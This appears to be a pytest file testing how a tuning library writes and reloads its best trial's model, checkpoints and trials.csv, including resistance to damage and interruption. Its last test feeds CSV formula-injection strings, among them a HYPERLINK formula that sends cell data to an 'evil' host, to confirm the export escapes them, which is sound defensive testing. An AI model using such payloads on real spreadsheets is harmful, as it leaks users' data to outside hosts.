"""The winner is tested once, its files can be read back, and trials.csv has a row a trial."""

import csv
import io
import json
import os
import shutil
from dataclasses import dataclass, replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from unittest import mock

import pytest
import torch
from journals import Journal

from tuner.core.events import Report
from tuner.errors import RequestError
from tuner.record import results
from tuner.record.records import TrialRecord
from tuner.record.saved_experiment import save_experiment
from tuner.record.storage import made, trial_files
from tuner.spec.experiment import Experiment
from tuner.spec.resources import Resources
from tuner.spec.spaces import find_space
from tuner.training.data import hold_out
from tuner.training.loop import Training
from tuner.training.task import TrialSpec, trial_seed
from tuner.tuning.answer.best import is_loadable, load_best
from tuner.tuning.answer.result import SearchResult, files_line, save_answer
from tuner.tuning.answer.writing import conclude, trials_csv
from tuner.tuning.trial import STATE
from tuner.views.tables import notices

TINY = Path(__file__).parents[2] / "spaces" / "tiny.py"
CONFIG = {"width": 4, "lr": 0.01, "batch_size": 16}


@dataclass
class Searched:
    """A search of two trials, the first with a checkpoint of its first epoch."""

    folder: Path
    space: Any
    splits: Any
    training: Training

    @property
    def best(self):
        return self.folder / "best"

    def conclude(self, **changes):
        return conclude(results.load(self.folder), self.space, changes.get("splits", self.splits), 1, 0)

    def read(self, name):
        return json.loads((self.best / name).read_text())

    def save_better(self):
        """Gives trial 00001 a checkpoint of a better epoch than that of trial 00000."""
        shutil.copytree(self.folder / "ray/00000/checkpoint_000000", self.folder / "ray/00001/checkpoint_000000")
        book = Journal(self.folder / "journal.jsonl")
        book.write("report", "00001", epoch=2, metrics={"loss": 1e-3}, checkpoint="ray/00001/checkpoint_000000")
        book.close()

    def files(self):
        """Every file of `best/`, and its content."""
        return {str(each.relative_to(self.best)): each.read_bytes() for each in self.best.rglob("*") if each.is_file()}


@pytest.fixture
def searched(tmp_path, monkeypatch):
    monkeypatch.setattr("tuner.training.doubts.of_model", lambda *_: "")  # losses that are written here are not true
    folder = tmp_path / "mine"
    place = folder / "ray" / "00000" / "checkpoint_000000"
    place.mkdir(parents=True)
    space = find_space(str(TINY))
    splits = hold_out(space.space.task.data(None), fraction=0.2, seed=0)
    training = Training(space.space.task, splits, TrialSpec(CONFIG, trial_seed(0, "00000"), 8))
    report = training.run_epoch()
    torch.save({"training": training.state_dict(), "extra": report["loss"]}, place / STATE)
    save_experiment(Experiment(space=str(TINY), name="mine", results=str(tmp_path), max_epochs=8), folder, {})
    book = Journal(folder / "journal.jsonl")
    book.write("experiment_started", name="mine")
    for trial in ("00000", "00001"):
        book.write("trial_suggested", trial, config=CONFIG)
        book.write("trial_started", trial, config=CONFIG, resources={"CPU": 1}, node="")
    book.write("report", "00000", epoch=1, metrics=report, checkpoint="ray/00000/checkpoint_000000")
    book.write("report", "00001", epoch=1, metrics={"loss": 1e-9, "accuracy": 1.0})
    book.write("decision", "00001", epoch=1, rung=1, bracket=0, value=1.0, cutoff=0.5, recorded=1, action="stop",
               reason='worse, "much" worse')  # fmt: skip
    book.write("trial_ended", "00000", status="completed", reason="trained its 8 epochs")
    book.write("trial_ended", "00001", status="pruned", reason='worse, "much" worse')
    book.write("experiment_finished", state="finished", reason="")
    book.close()
    return Searched(folder, space, splits, training)


def test_the_winner_is_written_with_its_test_figures_and_its_model(searched):
    answer = searched.conclude()
    assert (answer.trial, answer.epoch) == ("00000", 1)
    config, metrics = searched.read("config.json"), searched.read("metrics.json")
    assert (config["config"], config["trial"], config["space_sha256"]) == (CONFIG, "00000", searched.space.sha256)
    assert metrics["test"] == answer.test == searched.training.evaluate(searched.splits.test)
    assert metrics["validation"]["loss"] == answer.metrics["loss"]
    searched.space.space.task.model(CONFIG).load_state_dict(torch.load(searched.best / "model.pt", weights_only=True))


def test_the_test_part_is_read_once_for_one_winner_whose_model_and_figures_are_whole(searched):
    """A download from an object store may end between two files of `best/`."""
    first = searched.conclude().test
    test = searched.splits.test
    touched = replace(searched.splits, test=replace(test, targets=1 - test.targets))
    assert searched.conclude(splits=touched).test == first
    model = searched.best / "model.pt"
    for damage in (model.read_bytes()[:50], None):
        model.write_bytes(damage) if damage else model.unlink()
        assert searched.conclude().test == first and torch.load(model, weights_only=True)
    of_another = {**searched.read("metrics.json"), "validation": {"loss": 7.0}, "test": {"loss": 7.0}}
    (searched.best / "metrics.json").write_text(json.dumps(of_another))
    assert searched.conclude().test == first
    shutil.rmtree(searched.best)
    assert searched.conclude(splits=touched).test != first


@pytest.mark.parametrize("is_task", [True, False])
@pytest.mark.parametrize("has_links", [True, False])
def test_the_users_own_files_in_best_are_kept(searched, tmp_path, monkeypatch, is_task, has_links):
    if not is_task:
        searched.splits = None
    if not has_links:  # as on a disk without hard links
        monkeypatch.setattr(os, "link", mock.Mock(side_effect=OSError))
    searched.conclude()
    before = searched.files()
    (tmp_path / "outside").mkdir()
    own = {name: name for name in ("model.onnx", "mine/notes.md", "checkpoint/own")}
    own |= {} if is_task else {"model.pt": "model.pt"}
    for name, content in own.items():
        (searched.best / name).parent.mkdir(exist_ok=True)
        (searched.best / name).write_text(content)
    (searched.best / "link").symlink_to(tmp_path / "outside")
    (searched.best / "empty").mkdir()
    for _ in range(3):
        searched.conclude()
        assert {name: (searched.best / name).read_text() for name in own} == own
        assert (searched.best / "link").is_symlink() and (searched.best / "empty").is_dir()
        assert len(searched.files()) == len(before) + len(own) and before.items() <= searched.files().items()


@pytest.mark.parametrize("can_exchange", [True, False])
def test_what_the_user_saves_in_best_while_the_new_one_is_written_is_kept(searched, monkeypatch, can_exchange):
    searched.conclude()
    before, take_place = searched.files(), made.MadeFolder.take_place
    (searched.best / "notes.md").write_text("first")

    def saved(*names):  # both folders are complete by now
        (searched.best / "late.md").write_text("late")
        (searched.best / "new.md").write_text("second")  # as editors do
        os.replace(searched.best / "new.md", searched.best / "notes.md")
        take_place(*names)

    monkeypatch.setattr(made.MadeFolder, "take_place", saved)
    if not can_exchange:  # as on NFS
        monkeypatch.setattr(made, "exchanged", lambda *names: False)
    searched.conclude()
    own = {name: (searched.best / name).read_text() for name in ("late.md", "notes.md", "notes.md.old")}
    assert own == {"late.md": "late", "notes.md": "first", "notes.md.old": "second"}
    assert len(searched.files()) == len(before) + 3
    assert not list(searched.best.parent.glob(".best*"))


def test_an_own_file_of_a_name_that_tuner_writes_later_gets_another_name(searched):
    searched.conclude()
    config = json.loads((searched.best / "config.json").read_text())
    config["written"].remove("model.pt")
    (searched.best / "config.json").write_text(json.dumps(config))
    (searched.best / "model.pt").write_text("own")
    searched.conclude()
    assert (searched.best / "model.pt.old").read_text() == "own" and load_best(searched.folder).model


FORGETFUL = """
import numpy as np
import torch
import tuner
from tuner import tune

class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.inner, self.steps = torch.nn.Linear(4, 2), 0

    def forward(self, inputs):
        self.steps += self.training
        return self.inner(inputs) * (1 + self.steps)

def data():
    inputs = np.random.default_rng(0).normal(size=(60, 4)).astype("float32")
    parts = [tuner.Arrays(inputs[at : at + 20], (inputs[at : at + 20, 0] > 0).astype("int64")) for at in (0, 20, 40)]
    return tuner.Splits(*parts)

task = tuner.Task(data=data, model=lambda config: Net(), optimizer=lambda p, c: torch.optim.SGD(p, lr=c["lr"]))
space = tuner.Space(params={"lr": tune.uniform(0.01, 0.1)}, task=task, metric="loss", max_epochs=2)
"""


def test_a_model_that_validates_otherwise_than_in_the_search_is_told_also_by_a_resume(search_here, tmp_path, caplog):
    (tmp_path / "space.py").write_text(FORGETFUL)
    ran = search_here(str(tmp_path / "space.py"), "--num-samples", "1")
    doubt = json.loads((ran.folder / "best" / "metrics.json").read_text())["doubt"]
    loss = ran.record.best()[1].metrics["loss"]
    assert f"was {loss:.6g} in the search" in doubt and "perhaps in .steps" in doubt and doubt in caplog.text
    search_here("", "--resume", "test")
    assert json.loads((ran.folder / "best" / "metrics.json").read_text())["doubt"] == doubt


def test_an_interrupt_of_the_test_leaves_the_whole_old_answer(searched, monkeypatch):
    """The new answer is complete, its figures on the test part among them, before any of it is seen."""
    searched.conclude()
    old = searched.files()
    searched.save_better()

    def interrupted(*_):
        raise KeyboardInterrupt

    with monkeypatch.context() as patched, pytest.raises(KeyboardInterrupt):
        patched.setattr("tuner.tuning.answer.writing.evaluate", interrupted)
        searched.conclude()
    assert searched.files() == old
    assert searched.conclude().trial == "00001"
    assert searched.read("config.json")["trial"] == "00001"
    assert searched.read("metrics.json")["validation"] == {"loss": 1e-3}


@pytest.mark.parametrize("is_task", [True, False])
def test_where_all_checkpoints_and_best_are_gone_the_same_trial_is_the_answer_without_a_model(
    searched, caplog, is_task
):
    searched.save_better()
    searched.splits = searched.splits if is_task else None
    searched.conclude()
    assert not caplog.text
    for gone in ("ray", "best"):
        shutil.rmtree(searched.folder / gone)
    for _ in range(2):
        caplog.clear()
        answer = searched.conclude()
        assert (answer.trial, answer.epoch, answer.test) == ("00001", 2, None)
        assert results.load(searched.folder).best()[0].id == answer.trial
        assert "ray/00001/checkpoint_000000, the checkpoint of the best trial 00001, is gone" in caplog.text
        assert all(message.startswith("NOTE: ") for message in caplog.messages)
        assert "but no model" in caplog.text and not is_loadable(searched.best)
        assert searched.read("config.json")["config"] == CONFIG


def test_the_last_copy_of_a_model_is_kept_beside_damaged_metrics(searched):
    searched.splits = None
    searched.conclude()
    shutil.rmtree(searched.folder / "ray")
    for damage in ("x", "{}"):
        (searched.best / "metrics.json").write_text(damage)
        assert searched.conclude().checkpoint and is_loadable(searched.best)
        assert searched.read("metrics.json")["validation"]["loss"] == searched.conclude().metrics["loss"]


def wrote(trial, name, content):
    """Let a trial end that has written a file."""
    (trial.parents[1] / "temporary").write_text(content)
    trial_files.begin(trial, is_new=False)
    trial_files.end(trial, {name: str(trial.parents[1] / "temporary")}, {}, {})


def test_a_damaged_copy_of_a_functions_checkpoint_is_refused_and_copied_anew(searched, caplog):
    """A power failure may leave files of zero bytes, in the copy and in the trial's checkpoint."""
    trial, searched.splits = searched.folder / "ray/00000", None
    (trial / "checkpoint_000000" / "deep").mkdir()
    (trial / "checkpoint_000000/deep/weights").write_text("whole")
    wrote(trial, "log.txt", "whole")
    searched.conclude()
    best, before = load_best(searched.folder), searched.files()
    for damaged in (best.checkpoint / "deep" / "weights", best.checkpoint / STATE, best.files / "log.txt"):
        for content in (b"", b"w", b"whale", None):
            damaged.write_bytes(content) if content is not None else damaged.unlink()
            with pytest.raises(
                RequestError, match=f"{damaged} is damaged .*; restore a copy of it, or resume the search"
            ):
                load_best(searched.folder)
            held = searched.conclude()
            assert searched.files() == before
            assert load_best(searched.folder).checkpoint == best.checkpoint == Path(held.checkpoint.path)
    caplog.clear()
    for _ in range(2):  # the copy is kept without the trial's own files
        shutil.rmtree(trial, ignore_errors=True)
        assert searched.conclude().files and searched.files() == before and not caplog.text


@pytest.mark.parametrize("is_gone", [True, False])
def test_a_damaged_copy_of_a_checkpoint_that_is_gone_or_damaged_itself_is_not_kept(searched, caplog, is_gone):
    own, searched.splits = searched.folder / "ray/00000/checkpoint_000000", None
    (own / "weights").write_text("whole")
    held = searched.conclude()
    for copy in (searched.best / "checkpoint" / "weights", own / "weights"):
        copy.write_bytes(b"")
    with pytest.raises(RequestError, match="weights is damaged"):
        assert held.checkpoint
    if is_gone:
        shutil.rmtree(own)
    assert searched.conclude().checkpoint is None and not (searched.best / "checkpoint").exists()
    said, noted = caplog.messages
    assert "weights is damaged (it has 0 bytes, CRC-32 00000000, but was written with 5 bytes" in said
    assert noted.startswith(f"NOTE: {own}, the checkpoint of the best trial 00000, is gone or damaged")
    assert not searched.read("config.json")["checksums"]


def test_each_file_of_best_is_on_the_disk_before_best_is_replaced(searched, monkeypatch):
    (searched.folder / "ray/00000/checkpoint_000000" / "deep").mkdir()
    (searched.folder / "ray/00000/checkpoint_000000" / "deep" / "weights").write_text("whole")
    searched.splits, synced, sync = None, set(), os.fsync

    def fsync(handle):
        synced.add(os.readlink(f"/proc/self/fd/{handle}"))
        sync(handle)

    monkeypatch.setattr(os, "fsync", fsync)
    for _ in range(2):
        synced.clear()
        searched.conclude()
        new = searched.folder.resolve() / ".best.new"
        assert {
            str(new / each.relative_to(searched.best)) for each in (searched.best, *searched.best.rglob("*"))
        } <= synced


def emptied(checkpoint):
    (checkpoint / STATE).write_bytes(b"")


def with_an_object(checkpoint):
    torch.save({"training": Report, "extra": 0}, checkpoint / STATE)


def test_a_folder_that_is_deleted_while_the_answer_is_written_cannot_be_resumed(searched, monkeypatch):
    def written(*_):
        if deleted:
            shutil.rmtree(searched.folder)
        raise FileNotFoundError(2, "No such file or directory", str(searched.folder / "trials.csv"))

    monkeypatch.setattr("tuner.tuning.answer.result.conclude", written)
    parts = dict(loaded_space=None, splits=None, shared=None)
    request = SimpleNamespace(experiment=results.load(searched.folder).experiment, **parts)
    deleted = False
    with pytest.raises(RequestError, match="--resume mine writes them"):
        save_answer(request, Resources(1, 0, 1, 1))
    deleted = True
    with pytest.raises(RequestError, match="mine is gone, so nothing can continue this search"):
        save_answer(request, Resources(1, 0, 1, 1))


def test_a_data_folder_that_only_best_names_is_read_for_constants_if_trusted(searched):
    searched.conclude()
    config = {**searched.read("config.json"), "data_constants": None, "data_dir": "/etc"}
    (searched.best / "config.json").write_text(json.dumps(config))
    with pytest.raises(
        RequestError, match=r"config.json names the data folder /etc, which .*; check it, then give trust="
    ):
        load_best(searched.folder)
    assert load_best(searched.folder, trust=True).model


def test_a_model_that_holds_other_objects_is_refused_in_one_line(searched):
    searched.conclude()
    damaged = r"is damaged .*tuner.core.events.Report"
    for content, why in ((Report, rf"{damaged}.*whole: .*--resume {searched.folder}"), (3, "does not fit")):
        torch.save(content, searched.best / "model.pt")
        with pytest.raises(RequestError, match=f"model.pt {why}"):
            load_best(searched.folder)
    copied = shutil.copytree(searched.best, searched.folder.with_name("copy"))
    torch.save(Report, copied / "model.pt")
    with pytest.raises(RequestError, match=f"model.pt {damaged}.*restore a copy"):
        load_best(copied)


@pytest.mark.parametrize("is_whole", [True, False])
def test_a_damaged_model_is_written_again_or_another_trial_is_the_answer(searched, caplog, is_whole):
    searched.save_better()
    searched.conclude()
    torch.save(Report, searched.best / "model.pt")
    if not is_whole:
        with_an_object(searched.folder / "ray/00001/checkpoint_000000")
    said = "model.pt was damaged; it is written again" if is_whole else "the answer is the best of the other"
    assert searched.conclude().trial == ("00001" if is_whole else "00000") and said in caplog.text
    assert load_best(searched.folder).model
    caplog.clear()
    assert is_whole == (searched.conclude().trial == "00001" and not caplog.text)


@pytest.mark.parametrize(
    ("harm", "words"),
    [
        (shutil.rmtree, ", the checkpoint of the best trial 00001, is gone"),
        (emptied, " is damaged ("),
        (with_an_object, " is damaged (it has more than tensors and plain values (tuner.core.events.Report))"),
    ],
)
def test_a_best_checkpoint_that_is_not_whole_is_said_where_another_trial_is_the_answer(searched, caplog, harm, words):
    searched.save_better()
    harm(searched.folder / "ray/00001/checkpoint_000000")
    answer = searched.conclude()
    assert answer.trial == "00000" and answer.test and is_loadable(searched.best)
    assert not (searched.best / "front").exists()
    assert (
        f"ray/00001/checkpoint_000000{words}" in caplog.text and ": the answer is the best of the other" in caplog.text
    )
    assert [message[:6] for message in caplog.messages] == ["NOTE: "]
    if harm is shutil.rmtree:  # the report and the page say it too
        (notice,) = notices(results.load(searched.folder))
        assert notice.endswith("trial 00001 reported loss 0.001 at epoch 2, but its checkpoint is gone.")


@pytest.fixture
def wrote_files(searched):
    """The folder of the files of a function's best trial, which saves no checkpoint and has written one file."""
    (searched.folder / "journal.jsonl").unlink()
    book = Journal(searched.folder / "journal.jsonl")
    book.write("experiment_started", name="mine")
    book.write("trial_suggested", "00001", config=CONFIG)
    book.write("report", "00001", epoch=1, metrics={"loss": 0.5})
    book.write("experiment_finished", state="finished", reason="")
    book.close()
    files = searched.folder / "ray/00001/files"
    wrote(files.parent, "model.pt", "own")
    searched.splits = None
    return files


def test_files_of_the_best_trial_that_are_gone_are_said(searched, wrote_files, caplog):
    answer = searched.conclude()
    assert answer.trial == "00001" and answer.files and not caplog.text
    readme = (searched.best / "README.md").read_text()
    assert "best.files" in readme and "best.model" not in readme and "best.checkpoint" not in readme
    shutil.rmtree(wrote_files)
    assert searched.conclude().files and not caplog.text  # best/ still has them
    shutil.rmtree(searched.best)
    assert searched.conclude().files is None
    assert f"NOTE: {wrote_files}, the files of the best trial 00001, are gone" in caplog.text
    with pytest.raises(RequestError, match="or what its best trial 00001 saved is gone$"):
        load_best(searched.folder)


def test_files_that_a_trial_did_not_write_are_not_said_to_be_gone(searched, wrote_files, caplog):
    """It wrote a file before it was killed, and none when it began anew."""
    trial_files.begin(wrote_files.parent, is_new=True)
    trial_files.end(wrote_files.parent, {}, {}, {})
    assert searched.conclude().files is None and not caplog.text
    with pytest.raises(RequestError, match="its best trial saved no checkpoint and wrote no file by a relative"):
        load_best(searched.folder)


def test_the_answer_names_what_the_best_trial_wrote_outside_its_folder(searched, wrote_files):
    best = searched.conclude()
    (line,) = files_line(results.load(searched.folder), best)
    assert line == f"files       model.pt in {searched.best / 'files'}"
    shutil.rmtree(searched.best)
    trial_files.begin(wrote_files.parent, is_new=True)
    trial_files.end(wrote_files.parent, {}, {}, {"/my/large.pt": True})
    (line,) = files_line(results.load(searched.folder), best)
    assert line.endswith("relative path; it also wrote to /my/large.pt, which other trials may have replaced")


@pytest.mark.parametrize("harm", [shutil.rmtree, emptied])
@pytest.mark.parametrize("is_task", [True, False])
def test_the_best_trial_stays_the_answer_while_best_has_its_model(searched, caplog, harm, is_task):
    """A worse trial, whose checkpoint is still there, does not replace it."""
    searched.save_better()
    searched.splits = searched.splits if is_task else None
    first, before = searched.conclude(), searched.files()
    harm(searched.folder / "ray/00001/checkpoint_000000")
    assert searched.conclude() == first and results.load(searched.folder).best()[0].id == "00001"
    assert searched.files() == before and not caplog.text


def test_the_table_has_a_row_a_trial_with_where_and_why_it_stopped(searched):
    rows = list(csv.DictReader(io.StringIO(trials_csv(results.load(searched.folder)))))
    assert [row["trial"] for row in rows] == ["00000", "00001"]
    assert (rows[1]["status"], rows[1]["rung"], rows[1]["reason"]) == ("pruned", "1", 'worse, "much" worse')
    assert (rows[0]["rung"], rows[0]["epochs"], rows[0]["width"], rows[0]["lr"]) == ("", "1", "4", "0.01")
    assert float(rows[1]["best_loss"]) == float(rows[1]["last_loss"]) == 1e-9


def test_each_column_has_a_name_of_its_own_and_ours_keep_theirs(tmp_path):
    """In the DataFrame and its view of a notebook, too; `--start-from` reads the parameters back."""
    config = {"epochs": 111, "status": "x", "best_loss": 7, "last_epoch": 8, "confirms": 9, "config": {"status": 10}}
    reports = [Report(e, {"loss": 1 / e, "epoch": e / 2}, None, e) for e in (1, 2, 3)]
    trial = TrialRecord("00000", config, "completed", "why", tuple(reports))
    record = results.ExperimentRecord(Experiment(space="quadratic", metric="epoch"), {}, (trial,), "finished")
    (row,) = csv.DictReader(io.StringIO(table := trials_csv(record)))
    names = next(csv.reader(io.StringIO(table)))
    assert len(names) == len(set(names))
    ours = {"trial": "00000", "status": "completed", "epochs": "3", "best_epoch": "1", "reason": "why"}
    theirs = {"config/epochs": "111", "config/config/status": "x", "config/status": "10", "config/confirms": "9"}
    theirs |= {"config/best_loss": "7", "config/last_epoch": "8"}
    metrics = {"metrics/best_epoch": "0.5", "last_epoch": "1.5", "best_loss": "1.0", "last_loss": repr(1 / 3)}
    assert {name: row[name] for name in ours | theirs | metrics} == ours | theirs | metrics
    found = SearchResult(tmp_path, "finished", record)
    assert list(found.trials.columns) == names and found.trials["epochs"].to_list() == [3]
    assert "<th>metrics/best_epoch</th>" in found._repr_html_() and "<td>111</td>" in found._repr_html_()


TEXTS = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'", "'=1", "", "a=b"]


@pytest.mark.parametrize("text", TEXTS)
def test_no_text_of_the_table_is_a_formula_and_each_can_be_read_back(text):
    """A number stays one, a negative one too."""
    report = Report(1, {"loss": -1.5, "note": text}, None, 1.0)
    config = {text: 1, "act": text, "x": -2}
    trial = TrialRecord("00000", config, "failed", text, (report,), errors=(text,))
    table = trials_csv(results.ExperimentRecord(Experiment(space="quadratic", metric="loss"), {}, (trial,), "finished"))
    head, cells = csv.reader(io.StringIO(table, newline=""))
    assert not any(cell.startswith(tuple("=+-@\t\r\n＝")) for cell in [*head, *cells] if cell not in ("-1.5", "-2"))
    row = dict(zip([name.removeprefix("'") for name in head], cells, strict=True))
    assert {row[name].removeprefix("'") for name in ("reason", "error", "act", "best_note", "last_note")} == {text}
    assert (row[text], row["x"], row["best_loss"]) == ("1", "-2", "-1.5")
